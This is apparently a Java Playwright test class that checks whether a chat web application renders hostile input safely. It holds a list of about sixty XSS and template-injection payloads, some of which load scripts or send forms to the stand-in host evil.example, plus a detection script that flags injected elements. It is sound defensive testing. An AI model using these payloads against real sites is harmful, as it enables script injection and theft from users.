package chat.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import chat.testing.Answer;
import chat.testing.Person;
import chat.testing.Rounds;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * Known injection payloads, in every field and on every page. A test fails at a dialog, a script error, a violation of
 * the CSP ({@link BrowserTest}), an element that our pages do not use, or a request to another host.
 */
class HostileContentTest extends BrowserTest {
    /** The result of a payload that a template evaluates. Too long to be part of a random key by chance. */
    private static final String EVALUATED = String.valueOf(43210 * 43211);

    private static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "\"><script>alert(1)</script>",
            "'><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</template><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "--><script>alert(1)</script><!--",
            "]]><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<img src=//evil.example/a.png>",
            "<img/src='x'/onerror='alert(1)'>",
            "\"><img src=x onerror=alert(1)>",
            "\" onfocus=\"alert(1)\" autofocus=\"",
            "' onmouseover='alert(1)",
            "\" style=\"background:url(//evil.example)\" x=\"",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<object data=\"data:text/html,<script>alert(1)</script>\">",
            "<embed src=//evil.example/x.swf>",
            "<body onload=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<marquee onstart=alert(1)>",
            "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<style>@import '//evil.example/x.css';</style>",
            "<form action=//evil.example><button>Send</button></form>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "javascript:alert(1)",
            "JaVaScRiPt://example.org/%0Aalert(1)",
            "java\tscript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "https://example.org/\"onmouseover=\"alert(1)",
            "https://example.org/'><img src=x onerror=alert(1)>",
            "https://javascript:alert(1)@example.org/",
            "http://example.org/<svg/onload=alert(1)>",
            "mailto:a@example.org?subject=<script>alert(1)</script>",
            "{{43210*43211}} ${43210*43211} #{43210*43211} <%= 43210*43211 %>",
            "{% for i in [1] %}{{ i.getClass() }}{% endfor %}",
            "{{ product | raw }}{{ constructor.constructor('alert(1)')() }}",
            "`-alert(1)-` ${alert(1)}",
            "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
            "\\u003cscript\\u003ealert(1)\\x3c/script>",
            "a\u2028alert(1)\u2029b",
            "\u202e<script>alert(1)</script>\u2066",
            "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
            "<scr\u00adipt>alert(1)</scr\u200bipt>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "<x onclick=alert(1) tabindex=1>",
            "__proto__",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>");

    /** Reports each element that our pages do not use as soon as it is added. */
    private static final String WATCH =
            """
            const foreign = 'iframe, object, embed, svg, math, img, video, audio, source, style, base, marquee, x, xmp, '
              + 'meta[http-equiv], form[action^="//"], [srcdoc], script:not([src])';
            const look = (node) => {
              if (!(node instanceof Element)) return;
              for (const element of [node, ...node.querySelectorAll('*')]) {
                const bad = element.matches(foreign)
                  || [...element.attributes].some(({ name, value }) => /^on|^style$/.test(name) && /alert|evil/.test(value)
                    || /^(href|src|action|formaction|data)$/.test(name) && /^\\s*(javascript|data|vbscript):|^[^?]*evil/i.test(value)
                    && !element.matches('link[rel=icon]'));
                if (bad) window.testHeard(`element: ${element.outerHTML}`.slice(0, 300));
              }
            };
            new MutationObserver((changes) => {
              for (const { addedNodes, target } of changes) {
                look(target.nodeType === 1 && addedNodes.length === 0 ? target : null);
                addedNodes.forEach(look);
              }
            }).observe(document, { childList: true, subtree: true, attributes: true });
            """;

    private final List<String> foreignRequests = new ArrayList<>();

    private Tab newTab(Person person) {
        Device device = device(desktop());
        BrowserContext context = device.context();
        context.addInitScript(WATCH);
        context.onRequest(request -> {
            String url = request.url();
            if (!url.startsWith(server.url() + "/") && !url.startsWith("blob:" + server.url())) {
                foreignRequests.add(url);
            }
        });
        context.onConsoleMessage(message -> {
            if (message.text().contains("Content Security Policy")) {
                foreignRequests.add(message.text());
            }
        });
        return (person == null ? device : device.of(person)).newTab();
    }

    @AfterEach
    void noOtherHostWasContacted() {
        assertEquals(List.of(), foreignRequests);
    }

    private static String all() {
        return String.join(" ", PAYLOADS);
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    @Test
    void messagesAreText() {
        Person alice = server.register("alice");
        Person bob = server.register("bob");
        Person carol = server.register("carol");
        long group = carol.createGroup("Sailing", bob);
        Tab bobs = newTab(bob).visit("/chat").connected();
        bobs.tab("Recent").click();
        Chatter.send(alice, bob, PAYLOADS);
        bobs.openConversation("alice").shows(PAYLOADS);
        assertEquals(PAYLOADS, bobs.messages());
        assertOnlyWebLinks(bobs);
        Chatter.sendToGroup(carol, group, PAYLOADS.toArray(String[]::new));
        bobs.openConversation("Sailing").shows(PAYLOADS);
        assertOnlyWebLinks(bobs);
        // After a reload at least the newest page of them is shown.
        assertThat(bobs.reload().log().locator(".bubble").last()).hasText(PAYLOADS.get(PAYLOADS.size() - 1));
        assertOnlyWebLinks(bobs);
        // Drafts, which survive a reload, and search queries.
        for (String payload : List.of(all(), PAYLOADS.get(3), PAYLOADS.get(6))) {
            bobs.type(payload);
            bobs.field("Filter by name").fill(payload);
            bobs.page.keyboard().press("Control+k");
            assertThat(bobs.dialog()).isVisible();
            bobs.page.keyboard().type(payload.substring(0, Math.min(100, payload.length())));
            assertThat(bobs.dialog().locator(".dialog-note")).isVisible();
            bobs.page.keyboard().press("Escape");
            assertThat(bobs.dialog()).hasCount(0);
        }
        bobs.reload();
        bobs.openConversation("alice");
        assertThat(bobs.rows().filter(new Locator.FilterOptions().setHasText(PAYLOADS.get(6))))
                .hasCount(1);
    }

    private static void assertOnlyWebLinks(Tab tab) {
        for (Locator link : tab.log().locator("a").all()) {
            String address = (String) link.evaluate("link => link.href");
            assertTrue(address.matches("(?s)(https?://|mailto:).*"), address);
        }
        assertEquals(0, tab.log().locator(".bubble :not(a)").count(), "messages contain only text and links");
    }

    @Test
    void groupNamesAreText() {
        Person alice = server.register("alice");
        Person bob = server.register("bob");
        Tab bobs = newTab(bob).visit("/chat").connected();
        bobs.tab("Recent").click();
        List<String> names = new ArrayList<>();
        for (String payload : PAYLOADS) {
            Answer answer = alice.post(
                    "/rooms", Map.of("name", payload, "user_ids", List.of(bob.id()), "client_id", "g" + names.size()));
            if (answer.status() == 201) {
                names.add(answer.json().at("/room/name").asText());
            } else {
                answer.expectError(400, "bad_request", "name");
            }
        }
        assertTrue(names.size() > 40, names::toString);
        bobs.reload(); // the list does not change any more
        for (int i = 0; i < 12; i++) {
            Locator row = bobs.rows().nth(i);
            String name = row.locator(".row-name").textContent().replaceFirst(", group.*", "");
            assertTrue(names.contains(name), name);
            row.click();
            assertThat(bobs.head()).hasText(name);
            assertThat(bobs.page).hasTitle(name + " · Chat");
            if (name.startsWith("<")) {
                bobs.chooseInMenu("Conversation menu", "Members");
                assertThat(bobs.dialog().locator("h2")).hasText(name);
                bobs.page.keyboard().press("Escape");
            }
        }
        // Only the visible rows are in the page.
        for (int i = 0; i < 8; i++) {
            bobs.rows().last().scrollIntoViewIfNeeded();
            bobs.page.mouse().wheel(0, 600);
        }
        bobs.page.keyboard().press("Control+k");
        assertThat(bobs.dialog().locator(".choice-name").first()).isVisible();
        bobs.page.keyboard().press("Escape");
        bobs.reload();
        assertThat(bobs.rows().first()).isVisible();
    }

    private void logInWith(String userAgent, Person person) {
        server.visitor()
                .fetch(
                        "POST",
                        "/login",
                        "username=" + person.username() + "&password=" + Person.PASSWORD,
                        "User-Agent",
                        userAgent,
                        "Content-Type",
                        "application/x-www-form-urlencoded")
                .expect(303);
    }

    @Test
    void theUserAgentIsText() {
        // Two users, because one can have only 100 sessions.
        Person admin = server.register("admin");
        Person other = server.register("other");
        for (String payload : PAYLOADS) {
            if (payload.chars().allMatch(unit -> unit >= ' ' && unit < 127)) {
                logInWith(payload, admin);
                logInWith("Mozilla/5.0 (X11; Linux " + payload + ") Firefox/1" + payload, other);
                assertNotIn(payload, admin.get("/settings").expect(200));
                assertNotIn(payload, other.get("/settings").expect(200));
            }
        }
        Tab others = newTab(other).visit("/settings");
        assertThat(others.page.getByText("Account of other")).isVisible();
        Tab tab = newTab(admin).visit("/settings");
        assertThat(tab.page.getByText("Account of admin")).isVisible();
        tab.visit("/admin/users/" + admin.id());
        tab.visit("/admin/audit");
        assertThat(tab.page.locator("h1").first()).isVisible();
    }

    @Test
    void theAddressIsText() {
        Person admin = server.register("admin");
        Tab admins = newTab(admin);
        Tab visitors = newTab(null);
        for (String address : List.of(
                "/settings?done=",
                "/admin/users?q=",
                "/admin/users?done=",
                "/admin/audit?before=",
                "/admin/registration?done=",
                "/rooms/")) {
            assertSafe(admin, admins, address);
        }
        for (String address :
                List.of("/login?next=", "/login?done=", "/register?invite=", "/reset/", "/", "/static/")) {
            assertSafe(server.visitor(), visitors, address);
        }
        Tab tab = newTab(null).visit("/login?next=" + encode("javascript:alert(1)"));
        tab.field("Username").fill("admin");
        tab.field("Password").fill(Person.PASSWORD);
        tab.button("Login").click();
        tab.connected();
    }

    private static void assertSafe(Person person, Tab tab, String address) {
        for (String payload : Rounds.of(PAYLOADS)) {
            assertNotIn(payload, person.fetch("GET", address + inPath(payload), null, "Accept", "text/html"));
        }
        tab.visit(address + inPath(all().substring(0, 1_500)));
    }

    private static String inPath(String text) {
        return encode(text).replace("+", "%20");
    }

    @Test
    void formValuesAreText() {
        Person admin = server.register("admin");
        for (String payload : Rounds.of(PAYLOADS)) {
            for (String path : List.of(
                    "/login",
                    "/register",
                    "/admin/users/x",
                    "/admin/invites",
                    "/settings/password",
                    "/settings/delete")) {
                Answer answer = admin.fetch(
                        "POST",
                        path,
                        fields(payload),
                        "Content-Type",
                        "application/x-www-form-urlencoded",
                        "Accept",
                        "text/html");
                assertNotIn(payload, answer);
            }
        }
        for (String path : List.of("/login", "/register")) {
            Tab tab = newTab(null).visit(path + "?next=" + encode(PAYLOADS.get(2)));
            for (String payload : List.of(all(), PAYLOADS.get(2), PAYLOADS.get(15), PAYLOADS.get(6))) {
                tab.page.evaluate(
                        "document.querySelectorAll('input').forEach((input) => input.removeAttribute('maxlength'))");
                tab.field("Username").fill(payload);
                tab.field("Password").fill("x");
                tab.page.locator("form button[type=submit]").click();
                assertThat(tab.page.locator("[role=alert], .field-error").first())
                        .isVisible();
                assertThat(tab.field("Username")).hasValue(payload);
            }
        }
    }

    private static String fields(String payload) {
        return String.join(
                "&",
                List.of(
                                "username",
                                "password",
                                "confirm_password",
                                "next",
                                "invite",
                                "uses",
                                "days",
                                "mode",
                                "current_password")
                        .stream()
                        .map(field -> field + "=" + encode(payload))
                        .toList());
    }

    @Test
    void jsonErrorsAreNotHtml() {
        Person alice = server.register("alice");
        for (String payload : Rounds.of(PAYLOADS)) {
            for (Answer answer : List.of(
                    alice.post("/send_message", Map.of("receiver_id", 1, "message_content", "x", "client_id", payload)),
                    alice.post("/send_message", Map.of("receiver_id", payload, "message_content", "x")),
                    alice.post("/rooms", Map.of(payload, payload)),
                    alice.get("/users?q=" + encode(payload)),
                    alice.get("/users?page=" + encode(payload)),
                    alice.get("/users?ids=" + encode(payload)))) {
                assertTrue(answer.header("Content-Type").startsWith("application/json"), answer::body);
                assertEquals("nosniff", answer.header("X-Content-Type-Options"));
            }
        }
    }

    private static void assertNotIn(String payload, Answer page) {
        boolean markup = payload.contains("<") || payload.contains("\"");
        assertTrue(page.status() < 500, page::body);
        assertFalse(markup && page.body().contains(payload), () -> payload + " is in " + page.body());
        assertFalse(page.body().contains(EVALUATED), () -> payload + " was evaluated in " + page.body());
    }
}
